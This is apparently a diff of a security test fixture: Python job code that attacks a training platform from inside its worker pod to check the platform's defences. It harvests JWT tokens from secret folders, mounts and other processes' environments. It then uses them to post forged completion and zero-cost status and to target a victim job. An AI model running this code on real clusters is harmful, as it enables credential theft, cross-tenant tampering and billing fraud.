@@ -1,4 +1,5 @@
-# A job's customCode that attacks the platform from inside its worker (loaded as text; VICTIM is replaced).
+# A job's customCode that attacks the platform from inside its worker (loaded as text; VICTIM and ENDPOINT are
+# replaced).
 # It knows nothing of the platform's internals: it searches its environment and file system like an intruder,
 # prints what every attempt got back (one JSON line), then trains normally for a while.
 import json
@@ -9,6 +10,7 @@ import urllib.error
 import urllib.request
 
 VICTIM = "@VICTIM@"
+ENDPOINT = "@ENDPOINT@"
 INSECURE = ssl.create_default_context()
 INSECURE.check_hostname = False
 INSECURE.verify_mode = ssl.CERT_NONE
@@ -29,18 +31,71 @@ def call(method, url, body=None, token=None, content_type="application/json"):
         return -1, type(e).__name__
 
 
-def files_under(roots):
+def files_under(roots, limit=50000):
+    seen = 0
     for root in roots:
         for folder, _, names in os.walk(root):
             for name in names:
+                seen += 1
+                if seen > limit:
+                    return
                 yield os.path.join(folder, name)
 
 
-def find_tokens():
-    """Every readable file that looks like a bearer token (a JWT), anywhere a secret could be."""
-    roots = ["/var/run/secrets", "/run/secrets"]
+def mount_sources():
+    """The folders on the machine behind this container's mounts (mountinfo's root field), and their parents: where
+    the node keeps this pod's (and maybe other pods') volumes."""
+    found = set()
+    try:
+        with open("/proc/self/mountinfo") as handle:
+            lines = handle.read().splitlines()
+    except OSError:
+        return []
+    for line in lines:
+        root = line.split()[3]
+        for _ in range(6):
+            if root in ("/", ""):
+                break
+            found.add(root)
+            root = os.path.dirname(root)
+    return sorted(p for p in found if not p.startswith(("/proc", "/sys", "/dev", "/usr")))
+
+
+def other_processes():
+    """Every other process's view: its root folder (its mounts) and environment, if the kernel lets us read them."""
+    views = {"seen": 0, "rootsReadable": [], "environReadable": 0}
+    for pid in os.listdir("/proc"):
+        if not pid.isdigit() or int(pid) == os.getpid():
+            continue
+        views["seen"] += 1
+        try:
+            os.listdir("/proc/" + pid + "/root/")
+            views["rootsReadable"].append(pid)
+        except OSError:
+            pass
+        try:
+            with open("/proc/" + pid + "/environ", "rb") as handle:
+                handle.read(1)
+            views["environReadable"] += 1
+        except OSError:
+            pass
+    return views
+
+
+def looks_like_token(text):
+    return text.count(".") == 2 and text.startswith("eyJ") and " " not in text
+
+
+def find_tokens(views):
+    """Every readable file (or process environment) holding a bearer token (a JWT), anywhere a secret could be:
+    the usual secret folders, every mounted folder and the machine folders behind the mounts, and every other
+    process's mounts and environment."""
+    roots = ["/var/run/secrets", "/run/secrets", "/run", "/tmp", "/var/run"]
     roots += list(json.loads(os.environ.get("TENSORONE_SANDBOX_PATH_MAP", "{}")).values())
     roots += [v for v in os.environ.values() if v.startswith("/") and os.path.isdir(v)]
+    roots += mount_sources()
+    for pid in views["rootsReadable"]:
+        roots += ["/proc/" + pid + "/root/run", "/proc/" + pid + "/root/var/run/secrets"]
     candidates = list(files_under(roots))
     candidates += [v for v in os.environ.values() if v.startswith("/") and os.path.isfile(v)]
     tokens = {}
@@ -50,9 +105,19 @@ def find_tokens():
                 text = handle.read(20000).strip()
         except (OSError, UnicodeDecodeError):
             continue
-        if text.count(".") == 2 and text.startswith("eyJ") and " " not in text:
+        if looks_like_token(text):
             tokens[path] = text
-    return tokens
+    for pid in os.listdir("/proc"):
+        try:
+            with open("/proc/" + pid + "/environ", "rb") as handle:
+                variables = handle.read().split(b"\0")
+        except OSError:
+            continue
+        for variable in variables:
+            value = variable.partition(b"=")[2].decode(errors="replace").strip()
+            if looks_like_token(value):
+                tokens["/proc/" + pid + "/environ"] = value
+    return tokens, len(candidates), roots
 
 
 def own_job():
@@ -73,8 +138,17 @@ def train(context):
     api = "https://{}:{}".format(os.environ["KUBERNETES_SERVICE_HOST"], os.environ["KUBERNETES_SERVICE_PORT"])
     jobs = api + "/apis/training.tensorone.ai/v1/namespaces/" + namespace + "/trainingjobs/"
     report_urls = [v for v in os.environ.values() if v.startswith("http://") or v.startswith("https://")]
-    tokens = find_tokens()
-    results = {"tokens": sorted(tokens), "reportUrls": len(report_urls), "api": {}, "reports": {}}
+    views = other_processes()
+    tokens, searched, roots = find_tokens(views)
+    results = {
+        "tokens": sorted(tokens),
+        "reportUrls": len(report_urls),
+        "api": {},
+        "reports": {},
+        "searchedFiles": searched,
+        "searchedRoots": roots,
+        "processes": views,
+    }
     forged_status = {
         "phase": "completed",
         "resourceUsage": {"gpuSeconds": 0, "gpuHours": 0, "cost": 0, "accruedUntil": "2099-01-01T00:00:00Z"},
@@ -101,8 +175,12 @@ def train(context):
         "nan loss": "NAN",
         "huge": {"history": [{"step": i, "time": "2026-01-01T00:00:00Z"} for i in range(60000)]},
     }
-    for url in report_urls:
-        for token in tokens.values():
+    # Through the report URL found in the pod (with no token, and with each token found) and straight to the
+    # operator's endpoint (its URL guessed right: given by the test).
+    targets = [("found", url) for url in report_urls] + [("operator", ENDPOINT)]
+    for where, url in targets:
+        for token_label, token in [("no token", None), *tokens.items()]:
+            sent = results["reports"].setdefault(where + " with " + token_label, {})
             for label, body in forged.items():
                 if body == "NAN":
                     data = b'{"metrics": {"currentLoss": NaN}}'
@@ -110,32 +188,35 @@ def train(context):
                         url,
                         data=data,
                         method="POST",
-                        headers={"Content-Type": "application/json", "Authorization": "Bearer " + token},
+                        headers={
+                            "Content-Type": "application/json",
+                            **({"Authorization": "Bearer " + token} if token else {}),
+                        },
                     )
                     try:
                         with urllib.request.urlopen(request, timeout=10) as response:
                             code, text = response.status, response.read().decode()
                     except urllib.error.HTTPError as e:
                         code, text = e.code, e.read().decode()
+                    except OSError as e:
+                        code, text = -1, type(e).__name__
                 else:
                     code, text = call("POST", url, body, token)
-                results["reports"][label] = [code, text[:300]]
+                sent[label] = [code, text[:300]]
             # The victim's job named in the URL: the endpoint takes the job from the token, never from the request.
             code, _ = call(
                 "POST", url + "?job=" + VICTIM + "&name=" + VICTIM, {"progress": {"currentStep": 1}}, token
             )
-            results["reports"]["victim in query"] = [code, ""]
+            sent["victim in query"] = [code, ""]
             code, _ = call(
                 "POST",
                 url.rstrip("/") + "/" + namespace + "/" + VICTIM,
                 {"progress": {"currentStep": 1}},
                 token,
             )
-            results["reports"]["victim in path"] = [code, ""]
-        results["reports"]["no token"] = list(call("POST", url, {"progress": {"currentStep": 1}}))
-        results["reports"]["garbage token"] = list(
-            call("POST", url, {"progress": {"currentStep": 1}}, "eyJ.x.y")
-        )
+            sent["victim in path"] = [code, ""]
+        garbage = call("POST", url, {"progress": {"currentStep": 1}}, "eyJ.x.y")
+        results["reports"][where + " with garbage token"] = {"own progress": list(garbage)}
     print("ATTACK-RESULTS " + json.dumps(results, sort_keys=True), flush=True)
     # 3. Then train like anyone: progress, metrics and a checkpoint through the platform's own channel.
     context.set_total_steps(40)
